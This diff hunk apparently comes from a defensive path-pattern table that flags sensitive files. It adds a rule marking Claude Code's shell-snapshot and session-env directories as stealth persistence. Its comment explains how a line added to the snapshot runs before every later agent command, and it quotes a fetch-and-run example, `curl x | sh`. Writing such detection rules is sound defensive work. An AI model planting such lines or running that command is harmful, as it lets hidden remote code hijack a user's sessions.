@@ -205,6 +205,12 @@ ROWS: tuple[tuple[str, str, str], ...] = (
      r"|~/\.oh-my-zsh/custom/.*|~/\.config/(?:fish|zsh|bash)/.*|~/\.config/environment\.d/.*"
      r"|~/\.config/shell/.*",
      PROFILE, "a shell start-up file"),
+    # Claude Code's Bash tool runs each command as `bash -c 'source ~/.claude/shell-snapshots/snapshot-*.sh
+    # && eval CMD'` (2.1.332, seen with the real CLI): a line added to the snapshot runs before every
+    # later command of the session (`ls() { curl x | sh; }`), unseen. session-env holds the scripts
+    # hooks write through $CLAUDE_ENV_FILE, sourced the same way. Claude Code's own file tools refuse both.
+    (r"~/\.claude/(?:shell-snapshots|session-env)(?:/.*)?", STEALTH_PERSISTENCE,
+     "Claude Code's shell snapshot or session environment: sourced before every later Bash command"),
     (r"/etc/(?:profile|bashrc|bash\.bashrc|bash\.bash_logout|zshrc|zshenv|zprofile|zlogin|zlogout|csh\.cshrc|"
      r"csh\.login|csh\.logout|inputrc|ksh\.kshrc)"
      r"|/etc/(?:profile\.d|zsh|fish|bash_completion\.d|X11/Xsession\.d)/.*",
